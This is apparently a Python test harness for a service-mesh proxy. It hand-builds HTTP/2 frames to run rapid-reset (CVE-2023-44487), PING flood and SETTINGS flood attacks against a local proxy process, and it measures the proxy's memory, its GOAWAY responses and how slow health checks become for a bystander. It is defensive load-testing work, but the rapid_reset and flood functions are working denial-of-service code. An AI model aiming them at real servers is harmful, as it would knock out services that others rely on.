"""Abusive HTTP/2 clients, frame by frame: what no well-behaved client library sends.

:class:`RawH2` speaks h2c over one socket with hand-built frames (hyperframe, hpack), so tests
can send HEADERS and RST_STREAM in one write (rapid reset, CVE-2023-44487), floods of PING or
SETTINGS that are never read, or request heads no client library would send. The tests in
tests/proxy (test_h2_abuse, test_h2c, test_acl_bypass) use it against an in-process proxy.

``python -m tests.proxy.h2attack ATTACK [--count N] [-- PROXY OPTIONS]`` measures an attack
(rapid-reset, ping, settings) against ``python -m mesh.proxy`` in its own process, as
docs/security.md reports it: the proxy's RSS before, at its peak and 2 s after the attacker
left, the GOAWAYs it sent for abuse, and the ``/healthz`` latency of a bystander polling the
admin port every 20 ms meanwhile (from a process of its own). ``--proxy-src DIR`` runs the
proxy from another checkout (``git archive COMMIT | tar -x -C DIR``) to compare.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import os
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import AsyncIterator, Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import cast

import aiohttp
import hpack
from hyperframe.frame import (
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.proxy.harness import (
    LOCAL,
    backends,
    build,
    endpoints,
    free_port,
    free_range,
    metric_value,
    service,
    session,
    settings,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
ENHANCE_YOUR_CALM = 0xB
PROTOCOL_ERROR = 0x1
REFUSED_STREAM = 0x7
ROOT = Path(__file__).resolve().parents[2]


def request_headers(
    path: str = "/", *, method: str = "GET", host: str = "web.demo.mesh"
) -> list[tuple[str, str]]:
    return [(":method", method), (":scheme", "http"), (":path", path), (":authority", host)]


@dataclass
class Received:
    """What the server sent on one connection, as frames are read."""

    frames: list[Frame] = field(default_factory=list)
    heads: dict[int, list[dict[str, str]]] = field(default_factory=dict)  # decoded, per stream
    closed: bool = False

    def of(self, kind: type[Frame], stream_id: int | None = None) -> list[Frame]:
        return [
            f
            for f in self.frames
            if isinstance(f, kind) and (stream_id is None or f.stream_id == stream_id)
        ]

    @property
    def ended(self) -> bool:
        return self.closed or self.goaway is not None

    @property
    def goaway(self) -> GoAwayFrame | None:
        found = self.of(GoAwayFrame)
        return found[-1] if found else None  # type: ignore[return-value]


class RawH2:
    """One h2c connection with hand-built frames; what the server sends is read in the
    background into :attr:`received` (unless ``read=False``: a client that never reads)."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.received = Received()
        self.next_stream = 1
        self._task: asyncio.Task[None] | None = None

    @classmethod
    @contextlib.asynccontextmanager
    async def connect(
        cls, port: int, *, read: bool = True, source: str = LOCAL, rcvbuf: int = 0
    ) -> AsyncIterator[RawH2]:
        """``rcvbuf``: a small receive buffer, so a client that does not read is soon one
        the server cannot write to."""
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.bind((source, 0))
        sock.setblocking(False)
        try:
            await asyncio.get_running_loop().sock_connect(sock, (LOCAL, port))
        except OSError:
            sock.close()
            raise
        reader, writer = await asyncio.open_connection(sock=sock)
        client = cls(reader, writer)
        writer.write(PREFACE + SettingsFrame(0).serialize())
        if read:
            client._task = asyncio.create_task(client._read())
        try:
            yield client
        finally:
            if client._task is not None:
                client._task.cancel()
                with contextlib.suppress(asyncio.CancelledError):
                    await client._task
            writer.transport.abort()

    async def _read(self) -> None:
        received = self.received
        try:
            while True:
                header = await self.reader.readexactly(9)
                frame, length = Frame.parse_frame_header(memoryview(header))
                frame.parse_body(memoryview(await self.reader.readexactly(length)))
                received.frames.append(frame)
                if isinstance(frame, HeadersFrame):  # once each, in order: HPACK has state
                    fields = self.decoder.decode(frame.data, raw=False)
                    head = dict(cast(list[tuple[str, str]], fields))
                    received.heads.setdefault(frame.stream_id, []).append(head)
        except (asyncio.IncompleteReadError, ConnectionError):
            received.closed = True

    async def until(self, done: object, timeout: float = 5.0) -> bool:
        """Wait (bounded) until ``done()`` holds; returns whether it did."""
        assert callable(done)
        deadline = time.monotonic() + timeout
        while not done():
            if time.monotonic() > deadline:
                return False
            await asyncio.sleep(0.01)
        return True

    # -- frames ---------------------------------------------------------------------------

    def stream(self) -> int:
        stream_id = self.next_stream
        self.next_stream += 2
        return stream_id

    def headers(
        self, stream_id: int, headers: Iterable[tuple[str, str]], *, end_stream: bool = True
    ) -> bytes:
        frame = HeadersFrame(stream_id)
        frame.data = self.encoder.encode(list(headers))
        frame.flags.add("END_HEADERS")
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame.serialize()

    @staticmethod
    def data(stream_id: int, payload: bytes, *, end_stream: bool = True) -> bytes:
        frame = DataFrame(stream_id)
        frame.data = payload
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame.serialize()

    @staticmethod
    def rst(stream_id: int, code: int = CANCEL) -> bytes:
        frame = RstStreamFrame(stream_id)
        frame.error_code = code
        return frame.serialize()

    @staticmethod
    def ping(payload: bytes = b"12345678") -> bytes:
        frame = PingFrame(0)
        frame.opaque_data = payload
        return frame.serialize()

    @staticmethod
    def settings(values: dict[int, int] | None = None) -> bytes:
        return SettingsFrame(0, settings=values or {}).serialize()

    @staticmethod
    def window_update(stream_id: int, increment: int) -> bytes:
        frame = WindowUpdateFrame(stream_id)
        frame.window_increment = increment
        return frame.serialize()

    async def send(self, data: bytes) -> None:
        self.writer.write(data)
        await self.writer.drain()

    def response_status(self, stream_id: int) -> str | None:
        """The ``:status`` of the first HEADERS on ``stream_id``."""
        heads = self.received.heads.get(stream_id)
        return heads[0].get(":status") if heads else None


# -- attacks --------------------------------------------------------------------------------


async def rapid_reset(
    port: int, streams: int, *, batch: int = 100, path: str = "/"
) -> tuple[int, Received]:
    """HEADERS and RST_STREAM(CANCEL) of ``streams`` streams, ``batch`` pairs per write;
    returns how many were sent before the server closed, and what it sent."""
    sent = 0
    async with RawH2.connect(port) as client:
        headers = request_headers(path)
        try:
            while sent < streams and not client.received.ended:
                pairs = []
                for _ in range(min(batch, streams - sent)):
                    stream_id = client.stream()
                    pairs.append(client.headers(stream_id, headers) + client.rst(stream_id))
                await client.send(b"".join(pairs))
                sent += len(pairs)
                await asyncio.sleep(0)  # let the reader see a GOAWAY
        except ConnectionError:
            pass
        await client.until(lambda: client.received.closed, 2.0)
        return sent, client.received


async def flood(port: int, frame: bytes, count: int, *, batch: int = 1000) -> int:
    """``count`` copies of ``frame`` on a connection that never reads; returns how many
    were written before the server stopped taking them or closed (10 s at most)."""
    sent = 0
    async with RawH2.connect(port, read=False) as client:
        deadline = time.monotonic() + 10
        with contextlib.suppress(ConnectionError, TimeoutError):
            while sent < count and time.monotonic() < deadline:
                n = min(batch, count - sent)
                client.writer.write(frame * n)
                await asyncio.wait_for(client.writer.drain(), deadline - time.monotonic())
                sent += n
    return sent


# -- measuring against a proxy process ------------------------------------------------------


def rss_mb(pid: int, key: str = "VmRSS") -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(key + ":"):
            return int(line.split()[1]) / 1024
    raise RuntimeError(f"no {key} for {pid}")


@contextlib.asynccontextmanager
async def proxy_process(
    *args: str, src: Path = ROOT
) -> AsyncIterator[tuple[subprocess.Popen[bytes], int, int]]:
    """``python -m mesh.proxy`` (from ``src``) in front of one backend: (process, HTTP port,
    admin port)."""
    port = free_range(1)
    async with backends("127.0.0.2") as targets:
        with tempfile.TemporaryDirectory(prefix="simmesh-h2attack-") as tmp:
            config = Path(tmp) / "mesh.json"
            docs = [service("web"), *endpoints("web", targets)]
            config.write_text(build(docs, settings(http=port)).to_json())
            admin = free_port()
            command = [sys.executable, "-m", "mesh.proxy", "--config-file", str(config)]
            command += ["--node", "attack", "--bind", LOCAL, "--admin-port", str(admin), *args]
            env = {**os.environ, "PYTHONPATH": str(src)}
            process = subprocess.Popen(command, cwd=src, env=env, stderr=subprocess.DEVNULL)
            try:
                await _ready(admin)
                yield process, port, admin
            finally:
                process.terminate()
                try:
                    process.wait(10)
                except subprocess.TimeoutExpired:
                    process.kill()
                    process.wait()


async def _ready(admin: int) -> None:
    async with session(timeout=aiohttp.ClientTimeout(total=2)) as client:
        for _ in range(300):
            with contextlib.suppress(aiohttp.ClientError, TimeoutError):
                async with client.get(f"http://{LOCAL}:{admin}/readyz") as resp:
                    if resp.status == 200:
                        return
            await asyncio.sleep(0.1)
    raise RuntimeError("the proxy did not become ready")


@contextlib.asynccontextmanager
async def health_probe(admin: int) -> AsyncIterator[list[float]]:
    """``GET /healthz`` every 20 ms from a process of its own (the attacker's loop is busy),
    5 s timeout each; yields the latencies in seconds (a timeout counts 5.0), filled in on
    exit."""
    latencies: list[float] = []
    command = [sys.executable, "-m", "tests.proxy.h2attack", "probe", str(admin)]
    process = await asyncio.create_subprocess_exec(
        *command, cwd=ROOT, stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE
    )
    try:
        yield latencies
    finally:
        out, _ = await process.communicate(b"")  # end of input: stop and report
        latencies.extend(float(line) for line in out.split())


async def abusive(admin: int) -> dict[str, float]:
    """``simmesh_proxy_h2_abusive_connections_total`` by budget, from the admin port."""
    async with session() as client, client.get(f"http://{LOCAL}:{admin}/metrics") as resp:
        text = await resp.text()
    return {
        budget: value
        for budget in ("resets", "control")
        if (
            value := metric_value(text, "simmesh_proxy_h2_abusive_connections_total", budget=budget)
        )
    }


def probe(admin: int) -> None:
    """``health_probe``'s process: probe until stdin ends, then print the latencies."""
    import http.client
    import threading

    stop = threading.Event()

    def wait_for_the_end() -> None:
        sys.stdin.read()
        stop.set()

    threading.Thread(target=wait_for_the_end, daemon=True).start()
    latencies = []
    while not stop.is_set():
        started = time.monotonic()
        try:
            conn = http.client.HTTPConnection(LOCAL, admin, timeout=5)
            conn.request("GET", "/healthz")
            conn.getresponse().read()
            conn.close()
        except OSError:
            pass
        latencies.append(time.monotonic() - started)
        stop.wait(0.02)
    print("\n".join(f"{x:.4f}" for x in latencies))


async def measure(attack: str, count: int, proxy_args: list[str], src: Path) -> None:
    async with proxy_process(*proxy_args, src=src) as (process, port, admin):
        await asyncio.sleep(1.0)
        before = rss_mb(process.pid)
        started = time.monotonic()
        async with health_probe(admin) as latencies:
            if attack == "rapid-reset":
                sent, received = await rapid_reset(port, count)
                goaway = received.goaway
                ended = (
                    f"GOAWAY {goaway.error_code:#x} after {sent} streams"
                    if goaway is not None
                    else f"no GOAWAY; {sent} streams sent"
                )
            else:
                frame = RawH2.ping() if attack == "ping" else RawH2.settings()
                sent = await flood(port, frame, count)
                ended = f"{sent} of {count} frames written in 10 s"
        elapsed = time.monotonic() - started
        await asyncio.sleep(2.0)
        after = rss_mb(process.pid)
        peak = rss_mb(process.pid, "VmHWM")
        calmed = await abusive(admin)
    print(f"attack: {attack} x {count}: {ended} ({elapsed:.1f} s)")
    print(f"proxy RSS: {before:.0f} MB before, {peak:.0f} MB peak, {after:.0f} MB 2 s after")
    print(f"GOAWAY(ENHANCE_YOUR_CALM) by budget: {calmed or 'none'}")
    if latencies:
        ordered = sorted(latencies)
        median = ordered[len(ordered) // 2]
        print(
            f"bystander /healthz: {len(latencies)} probes, median {median * 1000:.0f} ms, "
            f"slowest {ordered[-1] * 1000:.0f} ms, {sum(x >= 1 for x in ordered)} over 1 s"
        )


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=("rapid-reset", "ping", "settings"))
    parser.add_argument("--count", type=int, default=100_000, help="streams or frames")
    parser.add_argument("--proxy-src", type=Path, default=ROOT, help="checkout to run")
    argv = sys.argv[1:]
    if argv[:1] == ["probe"]:
        probe(int(argv[1]))
        return 0
    cut = argv.index("--") if "--" in argv else len(argv)
    args = parser.parse_args(argv[:cut])  # after "--": options of the proxy
    asyncio.run(measure(args.attack, args.count, argv[cut + 1 :], args.proxy_src))
    return 0


if __name__ == "__main__":
    sys.exit(main())
